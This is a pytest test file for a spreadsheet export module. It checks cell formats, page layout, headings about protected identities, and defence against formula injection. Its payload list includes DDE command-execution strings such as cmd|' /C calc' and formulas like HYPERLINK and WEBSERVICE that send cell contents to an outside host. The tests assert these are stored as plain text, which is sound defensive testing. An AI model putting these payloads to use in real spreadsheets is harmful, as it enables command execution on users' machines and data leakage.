import builtins
import os
import re
import tempfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta, timezone
from io import BytesIO
from pathlib import Path
from typing import Any
from xml.sax.saxutils import unescape
from zipfile import ZipFile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml.etree import QName, fromstring
from openpyxl.cell.cell import Cell, MergedCell
from openpyxl.worksheet.worksheet import Worksheet

from documents.sheet import (
    BOX,
    CLOCK,
    DATE,
    DAY,
    NUMBER,
    TEXT,
    WORD,
    Column,
    Heading,
    Kind,
    Sheet,
    Value,
)
from models.text import clean_line
from models.vocabulary import Answer, Language

MADE = datetime(2026, 11, 24, 14, 2, tzinfo=timezone(timedelta(hours=1)))
HEADING = Heading("Sekretess enligt 26 kap. 1 § OSL", "Karin Ek", MADE)
SWEDISH = {
    "Yes": "Ja",
    "Tue": "tis",
    "Made {moment} by {name}": "Framtagen {moment} av {name}",
    "{count} persons with a protected identity are not on the list.": "{count} personer med skyddade personuppgifter är inte med.",
    "1 person with a protected identity is not on the list.": "1 person med skyddade personuppgifter är inte med.",
}


def swedish(message: str) -> str:
    return SWEDISH.get(message, message)


@dataclass(frozen=True, slots=True)
class Row:
    value: Value


def column(title: str, kind: Kind = TEXT, width: int | None = None) -> Column[Row]:
    return Column(title, lambda row: row.value, kind, width)


def sheet(*kinds: Kind, row_height: float | None = None, legend: str = "") -> Sheet[Row]:
    columns = tuple(column(f"Column {n}", kind) for n, kind in enumerate(kinds, 1))
    return Sheet("stem", "Title", "Purpose: a test.", columns, row_height, legend)


def opened(content: bytes) -> Worksheet:
    found = openpyxl.load_workbook(BytesIO(content)).active
    assert isinstance(found, Worksheet)
    return found


def lines_above(content: bytes) -> list[str]:
    page = opened(content)
    return [str(row[0].value) for row in page.iter_rows(max_row=_header(page) - 2)]


def _header(page: Worksheet) -> int:
    assert page.freeze_panes is not None
    return int(re.sub(r"\D", "", page.freeze_panes)) - 1


def data_cells(content: bytes) -> list[Cell | MergedCell]:
    page = opened(content)
    return [cell for row in page.iter_rows(min_row=_header(page) + 1) for cell in row]


def one_cell(kind: Kind, value: Value) -> Cell | MergedCell:
    return data_cells(sheet(kind).write((Row(value),), HEADING, swedish))[0]


@pytest.fixture
def files(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[str]:
    """Give the names of the files opened from now on; temporary ones would lie in `tmp_path`."""
    names: list[str] = []

    def listen(module: Any, name: str) -> None:
        real = getattr(module, name)

        def told(path: Any, *how: Any, **other: Any) -> Any:
            names.append(str(path))
            return real(path, *how, **other)

        monkeypatch.setattr(module, name, told)

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    listen(os, "open")
    listen(builtins, "open")
    return names


def part(content: bytes, name: str) -> str:
    return ZipFile(BytesIO(content)).read(name).decode()


@pytest.mark.parametrize(
    ("kind", "value", "shown", "held"),
    [
        (TEXT, "19850412-9803", "19850412-9803", "19850412-9803"),
        (TEXT, 198504129803, "198504129803", "198504129803"),
        (TEXT, None, "", None),
        (WORD, Answer.YES, "Ja", "Ja"),
        (WORD, "Yes", "Ja", "Ja"),
        (WORD, "", "", None),
        (NUMBER, -4, "−4", -4),
        (NUMBER, None, "", None),
        (DATE, date(2026, 11, 24), "2026-11-24", date(2026, 11, 24)),
        (DATE, date(1899, 5, 1), "1899-05-01", "1899-05-01"),
        (DATE, None, "", None),
        (DAY, date(2026, 11, 24), "tis 2026-11-24", date(2026, 11, 24)),
        (DAY, None, "", None),
        (CLOCK, time(9, 5), "09.05", time(9, 5)),
        (CLOCK, None, "", None),
        (BOX, False, "☐", "☐"),
        (BOX, True, "☑", "☑"),
    ],
)
def test_a_value_is_shown_and_held_as_its_kind_says(
    kind: Kind, value: Value, shown: str, held: object
) -> None:
    assert sheet(kind).texts((Row(value),), swedish) == ((shown,),)
    found = one_cell(kind, value).value
    assert (found.date() if isinstance(found, datetime) else found) == held


@pytest.mark.parametrize(
    ("kind", "number_format", "align"),
    [
        (TEXT, "@", "left"),
        (WORD, "@", "left"),
        (NUMBER, '0;[Red]"−"0', "right"),
        (DATE, "yyyy-mm-dd", "left"),
        (DAY, "[$-41D]ddd yyyy-mm-dd", "left"),
        (CLOCK, 'hh"."mm', "left"),
        (BOX, "@", "center"),
    ],
)
def test_a_cell_has_the_format_of_its_kind(kind: Kind, number_format: str, align: str) -> None:
    cell = one_cell(kind, None)
    assert cell.number_format == number_format
    assert cell.alignment is not None
    assert cell.alignment.horizontal == align


def test_the_weekday_is_in_the_language_of_the_list() -> None:
    english = Heading("Secrecy", "Karin Ek", MADE, language=Language.ENGLISH)
    content = sheet(DAY).write((Row(date(2026, 11, 24)),), english, str)
    assert data_cells(content)[0].number_format == "[$-809]ddd yyyy-mm-dd"


def test_the_lines_above_tell_purpose_secrecy_maker_and_who_is_left_out() -> None:
    heading = Heading(HEADING.secrecy, "Karin Ek", MADE, left_out=2, about="Vecka 48")
    assert lines_above(sheet(TEXT, legend="Yes").write((), heading, swedish)) == [
        "Title",
        "Vecka 48",
        "Purpose: a test.",
        "Sekretess enligt 26 kap. 1 § OSL",
        "Framtagen 2026-11-24 14.02 av Karin Ek",
        "2 personer med skyddade personuppgifter är inte med.",
        "Ja",
    ]


@pytest.mark.parametrize(
    ("left_out", "line"),
    [(1, ["1 person med skyddade personuppgifter är inte med."]), (0, [])],
)
def test_one_person_left_out_is_one_and_nobody_is_not_spoken_of(
    left_out: int, line: list[str]
) -> None:
    heading = Heading(HEADING.secrecy, "Karin Ek", MADE, left_out=left_out)
    assert lines_above(sheet(TEXT).write((), heading, swedish))[4:] == line


def test_the_office_may_word_the_purpose_itself() -> None:
    heading = Heading(HEADING.secrecy, "Karin Ek", MADE, purpose="Ändamål: uppföljning.")
    assert "Ändamål: uppföljning." in lines_above(sheet(TEXT).write((), heading, swedish))


def test_an_empty_list_says_so() -> None:
    assert data_cells(sheet(TEXT).write((), HEADING, str))[0].value == "No one is on the list."


def test_the_page_is_a_landscape_a4_that_repeats_its_titles() -> None:
    page = opened(sheet(TEXT, NUMBER).write((Row("a"), Row("b")), HEADING, str))
    header = _header(page)
    assert page.page_setup.orientation == "landscape"
    assert page.page_setup.paperSize == 9
    assert page.page_setup.fitToWidth == 1
    assert page.page_setup.fitToHeight == 0
    assert page.sheet_properties.pageSetUpPr is not None
    assert page.sheet_properties.pageSetUpPr.fitToPage
    assert page.print_title_rows == f"${header}:${header}"
    assert page.auto_filter.ref == f"A{header}:B{header + 2}"


def test_the_page_footer_shows_ampersands_and_the_page_number() -> None:
    heading = Heading("Sekretess & mer", "Karin Ek", MADE)
    written = part(sheet(TEXT).write((), heading, str), "xl/worksheets/sheet1.xml")
    footer = written.partition("<oddFooter>")[2].partition("</oddFooter>")[0]
    assert unescape(footer) == "&LSekretess && mer&RPage &P / &N"


@pytest.mark.parametrize(
    ("wanted", "values", "width"),
    [
        (column("Name"), ["Öhrström, Maria del Carmen"], 28),
        (column("Name"), ["x" * 300], 36),
        (column("Case number"), [], 10),
        (column(""), [], 6),
        (column("Due", DATE), [], 12),
        (column("Interpreterlanguage", DATE), [], 21),
        (column("Signature", width=62), ["x"], 62),
    ],
)
def test_a_column_is_as_wide_as_what_it_holds(
    wanted: Column[Row], values: list[str], width: int
) -> None:
    content = Sheet("stem", "Title", "Purpose", (wanted,)).write(
        [Row(v) for v in values], HEADING, str
    )
    assert opened(content).column_dimensions["A"].width == width


def test_rows_to_write_on_are_high() -> None:
    page = opened(sheet(TEXT, row_height=26).write((Row("a"),), HEADING, str))
    assert page.row_dimensions[_header(page) + 1].height == 26


def test_progress_is_told_and_an_exception_from_it_stops_the_work_without_a_trace(
    files: list[str], tmp_path: Path
) -> None:
    told: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        told.append((done, total))
        if done == 1000:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        sheet(TEXT).write([Row("a")] * 1200, HEADING, str, progress)
    assert told == [(500, 1200), (1000, 1200)]
    assert files == []
    assert list(tmp_path.iterdir()) == []


def test_a_long_list_holds_every_row() -> None:
    content = sheet(TEXT).write([Row(f"n{n}") for n in range(1200)], HEADING, str)
    assert [cell.value for cell in data_cells(content)] == [f"n{n}" for n in range(1200)]


def test_the_same_rows_give_the_same_bytes() -> None:
    first, second = (sheet(TEXT).write((Row("a"),), HEADING, str) for _ in range(2))
    assert first == second


def test_a_list_never_touches_a_file(files: list[str], tmp_path: Path) -> None:
    seen: list[Path] = []
    content = sheet(TEXT).write(
        [Row("a")] * 1200, HEADING, str, lambda *_: seen.extend(tmp_path.iterdir())
    )
    assert content
    assert seen == []
    assert files == []


def test_openpyxl_itself_puts_a_worksheet_into_a_temporary_file(
    files: list[str], tmp_path: Path
) -> None:
    openpyxl.Workbook().save(BytesIO())
    assert {Path(name).parent for name in files} == {tmp_path}


STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    '"=',
    " =",
    "\x00=",
    "\ufeff=",
    "\u202e=",
    "{=",
    "%=",
    "|",
)
FORMULAS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid?"&A1,"Klicka")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"!A0")',
    'WEBSERVICE("http://example.invalid")',
    'IMPORTXML("http://example.invalid","//a")',
    "#REF!",
    "A1",
    "_x003D_1+1",
)
PAYLOADS = [start + formula for start in STARTS for formula in FORMULAS]


def test_two_hundred_payloads_become_text_and_no_formula() -> None:
    assert len(PAYLOADS) == 200
    rows = [Row(payload) for payload in PAYLOADS]
    content = sheet(TEXT, WORD).write(rows, HEADING, str)
    assert [cell.value for cell in data_cells(content)[::2]] == [
        clean_line(p).replace("_x003D_", "_x005F_x003D_") for p in PAYLOADS
    ]
    assert {cell.data_type for cell in data_cells(content)} == {"s"}
    written = part(content, "xl/worksheets/sheet1.xml")
    assert "<f>" not in written
    assert "<f " not in written


def test_openpyxl_itself_makes_formulas_of_them() -> None:
    book = openpyxl.Workbook()
    for payload in PAYLOADS[:10]:
        book.worksheets[0].append([payload])
    assert {row[0].data_type for row in book.worksheets[0].iter_rows()} == {"f"}


@pytest.mark.parametrize("text", ["#N/A", "#REF!", "TRUE", "007", "=", "2026-11-24"])
def test_a_text_that_looks_like_something_else_stays_text(text: str) -> None:
    cell = one_cell(TEXT, text)
    assert (cell.value, cell.data_type, cell.number_format) == (text, "s", "@")


def test_what_fonts_are_made_of_comes_in_the_order_of_the_standard() -> None:
    order = ["b", "sz", "color", "name", "family"]
    styles = fromstring(part(sheet(TEXT).write((), HEADING, str), "xl/styles.xml").encode())
    found = [[QName(element).localname for element in font] for font in styles.iter("{*}font")]
    assert len(found) > 1
    assert all(names in (order, order[1:]) for names in found)


def test_nothing_is_calculated_when_the_file_is_opened() -> None:
    assert "calcPr" not in part(sheet(TEXT).write((), HEADING, str), "xl/workbook.xml")


def test_a_title_a_maker_and_a_purpose_become_text_too() -> None:
    heading = Heading("=1+1", "=<&>", MADE, about="=2+2", purpose='=HYPERLINK("x")')
    written = sheet(TEXT).write((), heading, str)
    assert lines_above(written)[1:4] == ["=2+2", '=HYPERLINK("x")', "=1+1"]
    assert openpyxl.load_workbook(BytesIO(written)).properties.creator == "=<&>"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("a[b]:*?/\\c", "a b      c"),
        ("'quoted'", "quoted"),
        ("x" * 40, "x" * 31),
        ("*", "1"),
        ("It's", "It's"),
    ],
)
def test_a_sheet_gets_a_name_a_spreadsheet_takes(title: str, name: str) -> None:
    made = Sheet("stem", title, "p", sheet(TEXT).columns).write((Row("a"),), HEADING, str)
    assert opened(made).title == name


@settings(max_examples=40)
@given(st.lists(st.text(), min_size=1, max_size=20))
def test_any_text_comes_back_as_it_was_cleaned(texts: list[str]) -> None:
    content = sheet(TEXT).write([Row(text) for text in texts], HEADING, str)
    found = [str(cell.value or "").replace("_x005F_", "_") for cell in data_cells(content)]
    assert found == [clean_line(text) for text in texts]


def test_a_text_longer_than_a_cell_ends_with_an_ellipsis() -> None:
    held = str(one_cell(TEXT, "x" * 40_000).value)
    assert len(held) < 32_767
    assert held.endswith("…")


def test_the_author_and_moment_are_in_the_file() -> None:
    properties = openpyxl.load_workbook(BytesIO(sheet(TEXT).write((), HEADING, str))).properties
    assert properties.creator == "Karin Ek"
    assert properties.title == "Title"
    assert properties.created == datetime(2026, 11, 24, 13, 2, tzinfo=UTC).replace(tzinfo=None)


def test_the_twenty_seventh_column_is_aa() -> None:
    page = opened(sheet(*[TEXT] * 28).write((Row("a"),), HEADING, str))
    assert page.cell(_header(page), 27).coordinate == "AA6"
    assert page.cell(_header(page), 27).value == "Column 27"
